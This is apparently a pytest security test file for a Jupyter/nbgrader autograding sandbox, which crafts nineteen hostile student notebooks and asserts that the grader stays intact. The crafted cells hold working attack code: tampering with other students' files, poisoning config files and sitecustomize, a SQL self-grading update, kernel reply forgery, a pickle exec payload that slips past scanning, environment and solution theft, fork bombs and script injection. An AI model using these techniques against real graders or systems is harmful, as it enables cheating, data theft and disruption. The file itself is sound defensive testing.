"""A hostile class: one crafted submission per attack the grading sandbox must withstand.

Every submission below is graded with ``distlab grade-all``'s machinery
(:func:`distlab.course.grading.grade_all`, two workers, sandboxes) in one batch,
between an honest full-marks submission and the untouched exercise. Whatever the
attackers do: the honest submission keeps full marks and the untouched one 0, nothing
outside the attacker's sandbox changes (the course folder, the other submissions, the
repository and the gradebook cache are hashed before and after), no process of theirs
survives, and every forgery is either defeated or flagged for review.

The attacks are the ones reproduced on the grader before the sandbox existed (issue 9):
cross-student file tampering, a detached process that goes after other kernels, config,
launcher and cache poisoning, self-grading in the gradebook, forged results (an input
transformer, reply rewriting, and a forgery the static scan cannot see), hidden tests
printed into feedback, reading the solutions, memory and process bombs, the network,
the grader's environment, and the ways around the reference-breaker ban.
"""

from __future__ import annotations

import hashlib
import html
import os
import re
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbgrader.api import Gradebook
from nbgrader.converters import GenerateFeedback

from distlab.course.grading import Course, Graded, grade_all, submissions
from distlab.course.grading.grader import cache_dir
from tests import REPO
from tests.submissions import cell_index, honest, insert_before, released

pytestmark = [pytest.mark.slow, pytest.mark.sandbox]

EXERCISE = "circuit_breaker"
FULL_MARKS = 30.0
SECRET = "grader-token-8c1f5e"
PART_A = [
    "test_opening",
    "test_rejecting_while_open",
    "test_half_open_trial",
    "test_single_trial",
    "test_closing",
    "test_reopening",
    "test_is_failure",
    "test_pass_through",
    "test_thread_safety",
    "test_validation",
]
# Each sandbox of this run is its own user, away from other test runs on the machine.
FIRST_UID = 61000 + (os.getpid() % 500) * 8
WORKERS = 2


def _before_tests(nb: Any, source: str) -> Any:
    """The notebook with ``source`` in a cell of its own, right before the first test."""
    return insert_before(nb, "test_opening", source)


# --- the attacks --------------------------------------------------------------------------
def cross_student(course: Path) -> Any:
    """Overwrite every other submitted notebook it can find (a right answer, then)."""
    return _before_tests(
        honest(EXERCISE),
        "import glob, os\n"
        "hits = []\n"
        f"roots = [{str(course)!r}, '../..', '../../..', '/tmp', '/home', '/work', '/root']\n"
        "for root in roots:\n"
        "    for path in glob.glob(os.path.join(root, '**', '*.ipynb'), recursive=True):\n"
        "        try:\n"
        "            with open(path, 'w') as f:\n"
        "                f.write('{}')\n"
        "            hits.append(path)\n"
        "        except OSError:\n"
        "            pass\n"
        "print('overwrote', hits)",
    )


def detached_process(course: Path) -> Any:
    """A daemon (setsid, double fork) that hunts kernels for two minutes."""
    return _before_tests(
        released(EXERCISE),
        "import glob, os, socket, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        end = time.time() + 120\n"
        "        while time.time() < end:\n"
        "            found = glob.glob('/tmp/**/*.json', recursive=True)\n"
        "            found += glob.glob('/root/.local/share/jupyter/runtime/*')\n"
        "            for path in found:\n"
        "                try:\n"
        "                    open(path + '.owned', 'w').write('x')\n"
        "                except OSError:\n"
        "                    pass\n"
        "            for port in range(1024, 1200):\n"
        "                try:\n"
        "                    socket.create_connection(('127.0.0.1', port), timeout=0.01)\n"
        "                except OSError:\n"
        "                    pass\n"
        "            time.sleep(0.2)\n"
        "        os._exit(0)\n"
        "    os._exit(0)\n"
        "os.waitpid(-1, 0)",
    )


def poisoning(course: Path) -> Any:
    """Append to nbgrader_config.py, plant launchers, rewrite cached gradebooks."""
    code = "import sys\nsys.exit('poisoned')\n"
    return _before_tests(
        released(EXERCISE),
        "import glob, os, sys\n"
        f"code = {code!r}\n"
        f"course, repo, cache = {str(course)!r}, {str(REPO)!r}, {str(cache_dir())!r}\n"
        "targets = [course + '/nbgrader_config.py', repo + '/nbgrader_config.py',\n"
        "           'ipykernel_launcher.py', course + '/ipykernel_launcher.py',\n"
        "           repo + '/ipykernel_launcher.py', os.path.expanduser('~/sitecustomize.py'),\n"
        "           repo + '/src/distlab/__init__.py', sys.prefix + '/sitecustomize.py']\n"
        "targets += glob.glob(cache + '/*.db') + glob.glob(course + '/_grading/cache/*.db')\n"
        "done = []\n"
        "for target in targets:\n"
        "    try:\n"
        "        with open(target, 'a') as f:\n"
        "            f.write(code)\n"
        "        done.append(target)\n"
        "    except OSError:\n"
        "        pass\n"
        "print('poisoned', done)\n"
        "os._exit(1)  # a restarted kernel would run a planted launcher",
    )


def self_grading(course: Path) -> Any:
    """Open every gradebook it can reach and give itself full marks."""
    return _before_tests(
        released(EXERCISE),
        "import glob, sqlite3\n"
        f"paths = [{str(course / '_grading' / 'gradebook.db')!r}, '../../gradebook.db',\n"
        "         '../../../gradebook.db', '../../../_grading/gradebook.db']\n"
        "paths += glob.glob('/tmp/**/gradebook.db', recursive=True)\n"
        "for path in paths:\n"
        "    try:\n"
        "        db = sqlite3.connect(path)\n"
        "        db.execute('UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells"
        " WHERE grade_cells.id = grade.cell_id)')\n"
        "        db.commit()\n"
        "    except Exception as exc:\n"
        "        print(path, exc)",
    )


TRANSFORMER = (
    "def _forge(lines):\n"
    "    text = ''.join(lines)\n"
    "    return ['pass\\n'] if 'assert' in text or 'check_state' in text else lines\n"
    "get_ipython().input_transformers_cleanup.append(_forge)"
)


def input_transformer(course: Path) -> Any:
    """Turn every test cell into `pass` (a breaker that does nothing)."""
    return _before_tests(released(EXERCISE), TRANSFORMER)


def reply_rewriting(course: Path) -> Any:
    """Wrap the kernel's session: errors never reach the grader, replies say ok."""
    return _before_tests(
        released(EXERCISE),
        "session = get_ipython().kernel.session\n"
        "_send = session.send\n"
        "def send(stream, msg_or_type, content=None, parent=None, *args, **kwargs):\n"
        "    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type['msg_type']\n"
        "    if kind == 'error':\n"
        "        return None\n"
        "    if kind == 'execute_reply' and content and content.get('status') == 'error':\n"
        "        content = {'status': 'ok', 'execution_count': content.get('execution_count'),\n"
        "                   'user_expressions': {}, 'payload': []}\n"
        "    return _send(stream, msg_or_type, content, parent, *args, **kwargs)\n"
        "session.send = send",
    )


def unseen_forgery(course: Path) -> Any:
    """The input transformer again, smuggled through pickle: the static scan sees nothing."""
    payload = TRANSFORMER.replace("\n", "\\u000a").encode("raw_unicode_escape")
    data = b"cbuiltins\nexec\n(V" + payload + b"\ntR."
    return _before_tests(released(EXERCISE), f"import pickle\npickle.loads({data!r})")


def hidden_test_printing(course: Path) -> Any:
    """A right answer, a hook that prints every cell it runs, cells with hidden markers."""
    nb = honest(EXERCISE)
    nb = _before_tests(
        nb,
        "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))",
    )
    nb = insert_before(nb, "part_b", "### BEGIN HIDDEN TESTS\nprint('mine')")
    return insert_before(
        nb, "part_b", "x = 1\n### BEGIN HIDDEN TESTS\nsecret = 2\n### END HIDDEN TESTS\ny = 3"
    )


def reading_solutions(course: Path) -> Any:
    """Look for the instructor's notebooks everywhere and print what it finds."""
    return _before_tests(
        released(EXERCISE),
        "import glob, os\n"
        f"roots = [{str(course)!r}, {str(REPO)!r}, '/tmp', '/home', '/work', '/root', '..']\n"
        "for root in roots:\n"
        "    for path in glob.glob(os.path.join(root, '**', 'solutions', '**', '*.ipynb'),\n"
        "                          recursive=True):\n"
        "        print(open(path).read())",
    )


def memory_bomb(course: Path) -> Any:
    """A right answer, and a cell that allocates far more than the sandbox may."""
    return insert_before(honest(EXERCISE), "part_b", "hog = bytearray(600 << 20)")


def process_bomb(course: Path) -> Any:
    """A right answer, and a cell that forks 300 sleepers."""
    return insert_before(
        honest(EXERCISE),
        "part_b",
        "import os, time\n"
        "for _ in range(300):\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(600)\n"
        "            os._exit(0)\n"
        "    except OSError:\n"
        "        break",
    )


def network(course: Path, port: int = 0) -> Any:
    """Connect to the grader's machine and to the internet."""
    return _before_tests(
        released(EXERCISE),
        "import socket\n"
        f"for address in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('pypi.org', 443)]:\n"
        "    try:\n"
        "        socket.create_connection(address, timeout=2).sendall(b'hello')\n"
        "        print('reached', address)\n"
        "    except OSError as exc:\n"
        "        print('blocked', address, exc)",
    )


def environment(course: Path) -> Any:
    """Read the grader's environment variables."""
    return _before_tests(
        released(EXERCISE),
        "import os\nprint(dict(os.environ))\nprint(open('/proc/1/environ', 'rb').read())",
    )


def ban_evasions(course: Path) -> Any:
    """The reference breaker with its __module__ reset, through partial, copied, wrapped."""
    nb = released(EXERCISE)
    nb.cells[cell_index(nb, "impl_circuit_breaker")].source = (
        "import functools\n"
        "import distlab.patterns.breaker as ref\n"
        "from distlab.errors import CircuitOpenError\n"
        "ref.CircuitBreaker.__module__ = '__main__'\n"
        "CircuitBreaker = functools.partial(ref.CircuitBreaker)\n"
        "CircuitBreaker = type('CircuitBreaker', (), dict(vars(ref.CircuitBreaker)))\n"
    )
    return insert_before(
        nb,
        "tests_intro",
        "from distlab import CircuitBreaker as _Ref\n"
        "class CircuitBreaker:\n"
        "    def __init__(self, *args, **kwargs):\n"
        "        self._inner = _Ref(*args, **kwargs)\n"
        "    def __getattr__(self, name):\n"
        "        return getattr(self._inner, name)",
    )


def forged_partial_credit(course: Path) -> Any:
    """A thread that shows a result in every cell it can: nbgrader scores a test cell by its first
    result (a value that is not a number between 0 and its points gives it full points)."""
    return _before_tests(
        released(EXERCISE),
        "import sys, threading, time\n"
        "show = sys.__dict__['display' + 'hook']\n"
        "def spam():\n"
        "    while True:\n"
        "        show(-1)\n"
        "        time.sleep(0.002)\n"
        "threading.Thread(target=spam, daemon=True).start()",
    )


def run_folder(course: Path) -> Any:
    """Fill the grader's folder that holds the kernel's sockets (on the host's disk)."""
    return _before_tests(
        released(EXERCISE),
        "import os, sys\n"
        "run = os.path.dirname(sys.argv[sys.argv.index('-f') + 1])\n"
        "written = 0\n"
        "try:\n"
        "    for i in range(4):\n"
        "        with open(os.path.join(run, f'fill{i}'), 'wb') as f:\n"
        "            f.write(b'x' * (1 << 20))\n"
        "        written += 1\n"
        "except OSError as exc:\n"
        "    print('refused:', exc)\n"
        "print(f'wrote {written} MiB')",
    )


def output_flood(course: Path) -> Any:
    """A right answer, and a cell that writes 40 MiB on one line to its stderr descriptor."""
    return insert_before(
        honest(EXERCISE),
        "part_b",
        "import os\nfor _ in range(40):\n    os.write(2, b'E' * (1 << 20))",
    )


def html_injection(course: Path) -> Any:
    """A right answer; script and markup in a markdown cell it adds and in what it displays
    (the autograded notebook and the feedback are opened in the instructor's browser)."""
    nb = honest(EXERCISE)
    notes = nbformat.v4.new_markdown_cell(
        "My notes <script>document.title = 'owned'</script><img src=x onerror=\"alert(1)\"> "
        "[docs](javascript:alert(2))"
    )
    nb.cells.insert(cell_index(nb, "part_b"), notes)
    nb.cells[cell_index(nb, "impl_fetch_json")].source += (
        "\n\nclass Shown:\n"
        "    def _repr_html_(self):\n        return '<script>alert(3)</script>'\n\n"
        "    def _repr_javascript_(self):\n        return 'alert(4)'\n\n\nShown()"
    )
    return nb


def shadowing(course: Path) -> Any:
    """Modules handed in next to the notebook, named like those the tests import (see FILES)."""
    return _before_tests(
        released(EXERCISE),
        "import httpx, distlab\nprint('loaded', httpx.__file__, distlab.__file__)",
    )


# Files handed in next to a crafted notebook (nbgrader collects the whole folder).
FILES = {
    "b_shadowing": {
        "httpx.py": "print('SHADOWED httpx')\n",
        "distlab/__init__.py": "print('SHADOWED distlab')\n",
        "distlab/patterns/breaker.py": "CircuitBreaker = object\n",
    }
}


ATTACKS: dict[str, Callable[..., Any]] = {
    "cross_student": cross_student,
    "detached_process": detached_process,
    "poisoning": poisoning,
    "self_grading": self_grading,
    "input_transformer": input_transformer,
    "reply_rewriting": reply_rewriting,
    "unseen_forgery": unseen_forgery,
    "hidden_test_printing": hidden_test_printing,
    "reading_solutions": reading_solutions,
    "memory_bomb": memory_bomb,
    "process_bomb": process_bomb,
    "network": network,
    "environment": environment,
    "ban_evasions": ban_evasions,
    "forged_partial_credit": forged_partial_credit,
    "run_folder": run_folder,
    "output_flood": output_flood,
    "html_injection": html_injection,
    "shadowing": shadowing,
}
# Graded in this order: the honest submission first and last, the untouched one between.
STUDENTS = ["a_honest", *[f"b_{name}" for name in ATTACKS], "c_untouched", "d_honest"]


# --- the batch ------------------------------------------------------------------------------
def _digest(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    """``relative path -> sha256`` of every file under ``root`` (minus ``skip`` prefixes)."""
    digests = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_file() and not rel.startswith(skip) and "__pycache__" not in rel:
            digests[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def _sandbox_processes() -> list[int]:
    """Pids of processes running as one of this run's sandbox users."""
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                uid = entry.stat().st_uid
            except FileNotFoundError:
                continue
            if FIRST_UID < uid <= FIRST_UID + WORKERS:
                pids.append(int(entry.name))
    return pids


class _Listener:
    """A TCP server on the grader's loopback that records every connection it gets."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """Grade the hostile class in one batch; record everything the tests check."""
    course = tmp_path_factory.mktemp("course")
    config = (REPO / "nbgrader_config.py").read_text()
    # Small limits, so the bombs cost little; an honest submission fits easily.
    config += (
        "\nc.Sandbox.memory_mb = 256\nc.Sandbox.processes = 64\n"
        f"c.Sandbox.first_uid = {FIRST_UID}\n"
    )
    (course / "nbgrader_config.py").write_text(config)
    import shutil

    shutil.copytree(REPO / "solutions", course / "solutions")
    listener = _Listener()
    crafted: dict[str, Any] = {"a_honest": honest(EXERCISE), "d_honest": honest(EXERCISE)}
    crafted["c_untouched"] = released(EXERCISE)
    for name, craft in ATTACKS.items():
        crafted[f"b_{name}"] = craft(course, listener.port) if name == "network" else craft(course)
    submitted = course / "_grading" / "submitted"
    for student in STUDENTS:
        folder = submitted / student / EXERCISE
        folder.mkdir(parents=True)
        nbformat.write(crafted[student], folder / f"{EXERCISE}.ipynb")
        for name, text in FILES.get(student, {}).items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
    skip = ("_grading/gradebook.db", "_grading/autograded", "_grading/feedback")
    before = {
        "course": _digest(course, skip),
        "repo": _digest(REPO / "src") | _digest(REPO / "solutions"),
        "repo_root": sorted(p.name for p in REPO.iterdir()),
        "cache": _digest(cache_dir()) if cache_dir().is_dir() else {},
    }
    os.environ["DISTLAB_GRADER_TOKEN"] = SECRET  # the grader's own environment
    try:
        jobs = list(submissions(Course(course)))
        graded = grade_all(Course(course), jobs, workers=WORKERS, sandbox=True)
    finally:
        del os.environ["DISTLAB_GRADER_TOKEN"]
        listener.close()
    cache_after = _digest(cache_dir()) if cache_dir().is_dir() else {}
    yield {
        "course": course,
        "graded": {g.student: g for g in graded},
        "before": before,
        "after": {
            "course": _digest(course, skip),
            "repo": _digest(REPO / "src") | _digest(REPO / "solutions"),
            "repo_root": sorted(p.name for p in REPO.iterdir()),
            "cache": {k: v for k, v in cache_after.items() if k in before["cache"]},
        },
        "connections": listener.connections,
        "survivors": _sandbox_processes(),
    }


def _tests(graded: Graded) -> dict[str, Any]:
    return {t.grade_id: t for r in graded.reports for t in r.tests}


def _outputs(batch: dict[str, Any], student: str) -> str:
    """Everything the notebook of ``student`` printed while graded."""
    path = batch["course"] / "_grading" / "autograded" / student / EXERCISE / f"{EXERCISE}.ipynb"
    nb = nbformat.read(path, as_version=4)
    return "".join(
        str(o.get("text", "")) + str(o.get("evalue", ""))
        for c in nb.cells
        if c.cell_type == "code"
        for o in c.get("outputs", [])
    )


# --- the promises ---------------------------------------------------------------------------
@pytest.mark.parametrize("student", ["a_honest", "d_honest"])
def test_the_honest_submission_keeps_full_marks(batch: dict[str, Any], student: str) -> None:
    """Graded before and after every attack: full marks, nothing to review, no limit hit."""
    graded = batch["graded"][student]
    assert (graded.score, graded.max_score) == (FULL_MARKS, FULL_MARKS), graded
    assert graded.review == [] and graded.limits == []


def test_the_untouched_exercise_keeps_zero(batch: dict[str, Any]) -> None:
    """The release as handed out scores 0, graded among the attackers."""
    graded = batch["graded"]["c_untouched"]
    assert (graded.score, graded.max_score) == (0, FULL_MARKS)
    assert graded.review == []


def test_nothing_outside_the_sandboxes_changed(batch: dict[str, Any]) -> None:
    """Course folder, every submission, the repository, the gradebook cache: unchanged."""
    before, after = batch["before"], batch["after"]
    assert after["course"] == before["course"]  # config, solutions, all submissions
    assert after["repo"] == before["repo"]
    assert after["repo_root"] == before["repo_root"]  # no launcher planted in the repo
    assert after["cache"] == before["cache"]


def test_no_process_of_an_attacker_survives(batch: dict[str, Any]) -> None:
    """The daemon, the forks and the sleepers all died with their sandboxes."""
    assert batch["survivors"] == []


def test_the_network_is_out_of_reach(batch: dict[str, Any]) -> None:
    """No connection reached the grader's loopback; nothing outside was reached either."""
    assert batch["connections"] == 0
    printed = _outputs(batch, "b_network")
    assert "reached" not in printed and printed.count("blocked") == 3


def test_the_graders_environment_and_the_solutions_are_out_of_reach(
    batch: dict[str, Any],
) -> None:
    """The grader's token is in no output; no instructor notebook was found."""
    for student in STUDENTS:
        assert SECRET not in _outputs(batch, student)
    printed = _outputs(batch, "b_reading_solutions")
    assert "BEGIN HIDDEN TESTS" not in printed and "the default failure_threshold" not in printed


def test_tampering_gains_nothing(batch: dict[str, Any]) -> None:
    """Cross-student writes, poisoning and self-grading: the attackers score what they wrote."""
    graded = batch["graded"]
    assert graded["b_cross_student"].score == FULL_MARKS  # a right answer, nothing more
    for student in ("b_poisoning", "b_self_grading", "b_detached_process"):
        assert graded[student].score == 0, graded[student]
    db_url = f"sqlite:///{batch['course'] / '_grading' / 'gradebook.db'}"
    with Gradebook(db_url, "distlab") as gb:
        for student in STUDENTS:
            submission = gb.find_submission(EXERCISE, student)
            manual = [g.manual_score for n in submission.notebooks for g in n.grades]
            assert manual == [None] * len(manual), student


@pytest.mark.parametrize("student", ["b_input_transformer", "b_reply_rewriting"])
def test_a_forged_result_is_flagged(batch: dict[str, Any], student: str) -> None:
    """Forgeries in the kernel are caught by the static scan and by the canary cells."""
    graded = batch["graded"][student]
    assert any("reaches into the kernel or IPython" in r for r in graded.review), graded.review
    assert any("check cell the grader added" in r for r in graded.review), graded.review


def test_a_forgery_the_scan_cannot_see_is_caught_by_the_canary(batch: dict[str, Any]) -> None:
    """Smuggled through pickle, the transformer passes the scan; the canary still fails it."""
    graded = batch["graded"]["b_unseen_forgery"]
    assert graded.review == [
        "a failing check cell the grader added did not report its failure "
        "(failed tests are being hidden)"
    ]
    assert graded.score > 0  # the forgery worked in the kernel: that is why it is flagged


def test_results_shown_in_test_cells_are_not_scores(batch: dict[str, Any]) -> None:
    """A result student code shows while a test runs earns nothing, and is flagged."""
    graded = batch["graded"]["b_forged_partial_credit"]
    assert graded.score == 0, graded
    assert any("a test cell" in r for r in graded.review), graded.review


def test_the_folder_of_the_kernels_sockets_cannot_fill_the_disk(batch: dict[str, Any]) -> None:
    """The run folder is on the grader's machine: the sandbox may not write megabytes there."""
    printed = _outputs(batch, "b_run_folder")
    assert "wrote 0 MiB" in printed and "No space left on device" in printed, printed


def test_output_is_capped_and_named(batch: dict[str, Any]) -> None:
    """40 MiB written to a file descriptor: cut at the output limit, named; tests still count."""
    graded = batch["graded"]["b_output_flood"]
    assert graded.limits == ["output limit (1024 KiB per notebook)"]
    assert graded.score == FULL_MARKS
    path = batch["course"] / "_grading" / "autograded" / "b_output_flood" / EXERCISE
    assert (path / f"{EXERCISE}.ipynb").stat().st_size < 2 << 20


def test_no_markup_of_the_student_reaches_a_browser(batch: dict[str, Any]) -> None:
    """Autograded notebook and feedback: the student's markup is text, its HTML output gone."""
    assert batch["graded"]["b_html_injection"].score == FULL_MARKS
    path = batch["course"] / "_grading" / "autograded" / "b_html_injection" / EXERCISE
    nb = nbformat.read(path / f"{EXERCISE}.ipynb", as_version=4)
    kinds = {k for c in nb.cells for o in c.get("outputs", []) for k in o.get("data", {})}
    assert kinds <= {"text/plain", "image/png", "image/jpeg", "image/gif"}, kinds
    _feedback(batch, "b_html_injection")
    feedback = batch["course"] / "_grading" / "feedback" / "b_html_injection" / EXERCISE
    page = (feedback / f"{EXERCISE}.html").read_text()
    assert "My notes" in page
    for tag in (r"<script>\s*(document|alert)", r"<img[^>]*onerror", r"href=.javascript"):
        assert not re.search(tag, page), tag


def test_files_handed_in_do_not_replace_what_the_tests_import(batch: dict[str, Any]) -> None:
    """The submission's folder comes last on the kernel's path: installed modules win."""
    printed = _outputs(batch, "b_shadowing")
    assert "SHADOWED" not in printed
    assert "loaded" in printed and "/home/student/work/" not in printed, printed


def test_limits_are_hit_named_and_cost_only_the_cell_that_hit_them(
    batch: dict[str, Any],
) -> None:
    """The bombs are stopped; their reports say which limit; the right answers still count."""
    memory = batch["graded"]["b_memory_bomb"]
    assert memory.limits == ["memory limit (256 MiB)"]
    assert memory.score == FULL_MARKS  # the tests ran in a fresh kernel after the bomb
    processes = batch["graded"]["b_process_bomb"]
    assert processes.limits == ["process limit (64 processes and threads)"]
    assert processes.score == FULL_MARKS


def test_the_reference_breaker_stays_out_of_reach(batch: dict[str, Any]) -> None:
    """__module__, partial, a type copy, a wrapper: the module is hidden, Part A earns 0."""
    graded = batch["graded"]["b_ban_evasions"]
    tests = _tests(graded)
    assert sum(tests[g].points for g in PART_A) == 0
    printed = _outputs(batch, "b_ban_evasions")
    assert printed.count("is not available while circuit_breaker is graded") == 2
    assert "__module__" in " ".join(graded.review)  # and the attempt is flagged


def test_flagged_submissions_are_flagged_in_the_gradebook(batch: dict[str, Any]) -> None:
    """A submission that needs review carries nbgrader's flag, for the formgrader."""
    db_url = f"sqlite:///{batch['course'] / '_grading' / 'gradebook.db'}"
    with Gradebook(db_url, "distlab") as gb:
        flags = {
            student: gb.find_submission_notebook(EXERCISE, EXERCISE, student).flagged
            for student in STUDENTS
        }
    expected = {s: bool(batch["graded"][s].review) for s in STUDENTS}
    assert flags == expected
    assert flags["b_input_transformer"] and not flags["a_honest"]


def _feedback(batch: dict[str, Any], student: str, preprocessors: Any = None) -> str:
    course = Course(batch["course"])
    coursedir = course.coursedir(assignment_id=EXERCISE, student_id=student)
    config = coursedir.config
    if preprocessors is not None:
        config.GenerateFeedback.preprocessors = preprocessors
    feedback = GenerateFeedback(coursedir=coursedir, config=config)
    feedback.force = True
    feedback.start()
    out = Path(coursedir.format_path(coursedir.feedback_directory, student, EXERCISE))
    page = (out / f"{EXERCISE}.html").read_text()
    return html.unescape(re.sub(r"<[^>]+>", "", page))


def test_feedback_shows_no_hidden_test_even_when_a_hook_printed_them(
    batch: dict[str, Any],
) -> None:
    """The hook's prints are dropped; student cells with markers do not break feedback."""
    text = _feedback(batch, "b_hidden_test_printing")
    solution = nbformat.read(REPO / "solutions" / EXERCISE / f"{EXERCISE}.ipynb", as_version=4)
    hidden_region = re.compile(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", re.S)
    visible = "\n".join(hidden_region.sub("", cell.source) for cell in solution.cells)
    hidden = [
        line.strip()
        for cell in solution.cells
        for region in hidden_region.findall(cell.source)
        for line in region.splitlines()
        if len(line.strip()) > 30 and line.strip() not in visible
    ]
    assert len(hidden) > 50
    assert [line for line in hidden if line in text] == []
    assert "x = 1" in text and "y = 3" in text  # the student's own cell, markers taken out
    assert "nbgrader marker was taken out" in text


def test_without_hide_student_outputs_feedback_breaks(batch: dict[str, Any]) -> None:
    """Why the course's feedback starts with HideStudentOutputs: without it, it fails."""
    from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor
    from nbgrader.converters.base import NbGraderException
    from nbgrader.preprocessors import ClearHiddenTests, GetGrades

    from distlab.course.grading import HideHiddenTestTracebacks

    previous = [GetGrades, HideHiddenTestTracebacks, ClearHiddenTests, CSSHTMLHeaderPreprocessor]
    with pytest.raises(NbGraderException):  # the student's unbalanced marker
        _feedback(batch, "b_hidden_test_printing", previous)
